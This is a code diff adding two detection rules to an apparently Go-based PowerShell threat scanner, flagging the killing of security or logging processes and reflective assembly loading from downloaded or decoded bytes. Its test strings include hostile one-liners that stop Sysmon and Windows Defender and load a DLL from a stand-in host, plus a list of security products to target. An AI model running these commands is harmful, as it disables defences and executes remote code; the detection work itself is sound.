@@ -69,6 +69,18 @@ func (t *textRule) match(s string) []int {
 }
 
 var textRules = []*textRule{
+	tr("ps-kill-security", "defense evasion", high, "stops a security or logging process or service found by name (ATT&CK T1562.001)",
+		[]string{"stop-process", "spps", "kill", "stop-service", "taskkill"},
+		`(stop-process|\bspps\b|\bkill\b|stop-service|taskkill)\b`,
+		`(-like|-match|-eq|-name|-processname|/im)\s+['"]?\*?(msmpeng|mssense|sense|sysmon\d*|csfalcon\w*|cb|carbonblack|sentinel\w*|cylance\w*|sophos\w*|mcafee\w*|symantec\w*|elastic-agent|winlogbeat|splunkd|osqueryd|windefend|wdnissvc|eventlog|mpssvc)(\*|['"]|\b)`,
+		[]string{"Get-Process | Where-Object {$_.Name -like '*sysmon*'} | Stop-Process -Force", "Stop-Service -Name WinDefend -Force"},
+		[]string{"Get-Process | Where-Object {$_.Name -like '*node*'} | Stop-Process", "Stop-Service -Name Spooler", "Stop-Service -Name sysmonlog"}),
+	tr("ps-reflective-load", "defense evasion", high, "loads a .NET assembly from downloaded or decoded bytes into memory (ATT&CK T1620)",
+		[]string{"assembly]::load", "assembly]::loadfile", ".load("},
+		`\[(system\.)?reflection\.assembly\]::load(file|from)?\s*\(`,
+		`downloaddata|frombase64string|invoke-webrequest|\biwr\b|net\.webclient|\.content\b|httpclient|getbytes\(|decompress|gzipstream|deflatestream`,
+		[]string{"[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://192.0.2.69/x.dll'))", "[Reflection.Assembly]::Load([Convert]::FromBase64String($b))"},
+		[]string{"[System.Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')", "[Reflection.Assembly]::LoadFile('C:\\build\\App.dll')"}),
 	tr("ps-download-exec", "download and execute", critical, "downloads a PowerShell script and runs it with Invoke-Expression",
 		[]string{"iex", "invoke-expression"},
 		`(\biex\b|invoke-expression)`,
